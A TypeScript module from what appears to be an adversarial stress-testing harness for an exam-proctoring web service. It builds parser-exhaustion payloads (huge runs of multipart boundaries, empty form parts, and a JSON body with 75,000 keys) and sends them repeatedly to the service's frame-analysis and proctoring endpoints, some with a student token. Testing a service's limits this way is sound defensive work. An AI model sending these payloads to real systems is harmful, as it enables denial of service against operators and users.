import type { AttackPlan } from '../plan.ts';
import type { Traffic } from '../traffic.ts';

/** Request bodies that are expensive to parse. */

const FORM = 'multipart/form-data; boundary=x';
const BOUNDARIES_OF_A_STRANGER = 53_000;
const BOUNDARIES_OF_A_STUDENT = 960_000;
const EMPTY_PARTS = 90_000;
const KEYS = 75_000;

const frameOf = (plan: AttackPlan) =>
  ({
    method: 'POST',
    path: `/api/cv/analyze-frame?sessionId=${plan.students[0]!.session}`,
    token: plan.students[0]!.token,
    type: FORM,
  }) as const;

export function boundariesOfAStranger(_: AttackPlan, traffic: Traffic): Promise<void> {
  const body = Buffer.from('--x\r\n'.repeat(BOUNDARIES_OF_A_STRANGER));
  return traffic.loops(4, () => ({ method: 'POST', path: '/api/system-check/frame', type: FORM, body }));
}

export function boundariesOfAStudent(plan: AttackPlan, traffic: Traffic): Promise<void> {
  const body = Buffer.from('--x\r\n'.repeat(BOUNDARIES_OF_A_STUDENT));
  return traffic.loops(2, () => ({ ...frameOf(plan), body }));
}

export function emptyParts(plan: AttackPlan, traffic: Traffic): Promise<void> {
  const body = Buffer.from(
    `${'--x\r\nContent-Disposition: form-data; name="a"\r\n\r\n\r\n'.repeat(EMPTY_PARTS)}--x--\r\n`,
  );
  return traffic.loops(2, () => ({ ...frameOf(plan), body }));
}

export function manyKeys(plan: AttackPlan, traffic: Traffic): Promise<void> {
  const { token, session } = plan.students[0]!;
  const data = Object.fromEntries(Array.from({ length: KEYS }, (_, n) => [`k${n}`, 1]));
  const body = JSON.stringify({ sessionId: session, type: 'TAB_SWITCH', data });
  return traffic.loops(2, () => ({
    method: 'POST',
    path: '/api/proctoring/event',
    token,
    type: 'application/json',
    body,
  }));
}
